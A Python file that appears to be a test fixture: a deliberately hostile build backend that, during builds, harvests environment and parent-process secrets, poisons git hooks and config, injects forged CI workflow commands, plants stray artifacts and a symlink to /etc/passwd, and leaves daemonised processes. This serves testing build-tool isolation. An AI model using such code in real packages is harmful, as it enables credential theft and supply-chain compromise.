"""A build backend that attacks; each attack answers what it got, and all of it is written to the folder that `loot` names."""

import json
import os
import subprocess
import sys
import time
from contextlib import suppress
from pathlib import Path

import honest

LOOT = Path(Path("loot").read_text().strip())
OUTSIDE = LOOT.parent
COMMANDS = """\
::set-output name=version::9.9.9
::add-path::/evil
 ::stop-commands::token
##[add-path]/evil
x##[set-env name=LD_PRELOAD]/evil.so
::add-mask::released
\x1b]0;title\x07\x1b[2J::error file=a::forged
"""


def environment():
    return dict(os.environ)


def ancestors():
    """The environments of all processes above."""
    found, pid = {}, os.getppid()
    while pid > 1:
        with suppress(OSError):
            found[pid] = Path(f"/proc/{pid}/environ").read_bytes().decode(errors="replace").split("\0")
        try:
            pid = int(Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[1])
        except OSError:
            break
    return found


def files_of_home():
    return {name: (Path.home() / name).exists() for name in (".pypirc", ".netrc", ".gitconfig")}


def git(*arguments):
    done = subprocess.run(["git", *arguments], capture_output=True, text=True)
    return [done.returncode, done.stdout + done.stderr]


def poison_git():
    """Hooks and programs for whoever uses git here next."""
    trap = OUTSIDE / "trap"
    hooks = Path(git("rev-parse", "--absolute-git-dir")[1].strip(), "hooks")
    hooks.mkdir(exist_ok=True)
    for hook in ("post-checkout", "reference-transaction", "pre-push"):
        (hooks / hook).write_text(trap.read_text())
        (hooks / hook).chmod(0o755)
    return [git("config", key, str(trap)) for key in ("core.fsmonitor", "core.sshCommand", "gpg.program")]


def change_sources():
    """For the wheel, after the sdist has been made."""
    Path("hostile/__init__.py").write_text("import os  # changed by the build\n")


def more_files(folder):
    """Beside the one that was asked for."""
    Path(folder, "other-1.0-py3-none-any.whl").write_bytes(b"PK")
    Path(folder, "release.json").write_text('{"schema": 1}')
    if not Path(folder, "hostile-1.0.tar.gz.asc").is_symlink():
        Path(folder, "hostile-1.0.tar.gz.asc").symlink_to("/etc/passwd")


def leave_a_process():
    """Leave a process that watches for as long as it lives."""
    subprocess.Popen([sys.executable, "-c", f"""
import os, pathlib, time
pathlib.Path({str(LOOT / "left")!r}).write_text(str(os.getpid()))
time.sleep(600)
"""])
    while not (LOOT / "left").exists() or not (LOOT / "left").read_text():
        pass
    return int((LOOT / "left").read_text())


LEAVING = f"""
import os, pathlib, sys, time
{{}}
pathlib.Path({str(LOOT)!r}, "left-" + sys.argv[1]).write_text(str(os.getpid()))
time.sleep(600)
"""
WAYS = {
    "session": "os.setsid()",
    "daemon": "os.fork() and os._exit(0); os.setsid(); os.fork() and os._exit(0)",
    "environment": "os.setsid(); os.environ.clear(); sys.argv[0] = 'init'",
    "signals": "import signal; os.setsid(); [signal.signal(n, signal.SIG_IGN) for n in (1, 2, 15)]",
    "child": "os.setsid(); os.fork()",
}


def leave_processes():
    """Leave processes that left the session of the build, each in another way."""
    for name, way in WAYS.items():
        subprocess.Popen([sys.executable, "-c", LEAVING.format(way), name])
    paths = [LOOT / f"left-{name}" for name in WAYS]
    for _ in range(500):
        if all(path.exists() and path.read_text() for path in paths):
            break
        time.sleep(0.01)
    return {path.name: int(path.read_text()) for path in paths}


def attack(name):
    print(COMMANDS, flush=True)
    print(COMMANDS, file=sys.stderr, flush=True)
    loot = {"environment": environment(), "ancestors": ancestors(), "home": files_of_home()}
    if name == "sdist":
        loot["git"] = poison_git()
        loot["process"] = leave_a_process()
        if os.name != "nt":
            loot["processes"] = leave_processes()
    (LOOT / f"{name}.json").write_text(json.dumps(loot))
    if Path("fail").exists():
        raise SystemExit(f"{COMMANDS}{os.environ}")


def build_sdist(folder, settings=None):
    made = honest.build_sdist(folder, settings)
    more_files(folder)
    change_sources()
    return Path("answer").read_text().strip() if Path("answer").exists() else made


def build_wheel(folder, settings=None, metadata=None):
    made = honest.build_wheel(folder, settings, metadata)
    more_files(folder)
    if Path("replace").exists():
        replace_the_sdist(folder)
    return made


def replace_the_sdist(folder):
    """Wherever it is."""
    for sdist in (*Path(folder).parent.rglob("hostile-1.0.tar.gz"), *OUTSIDE.rglob("dist/hostile-1.0.tar.gz")):
        sdist.write_bytes(b"evil")


honest.meanwhile = attack
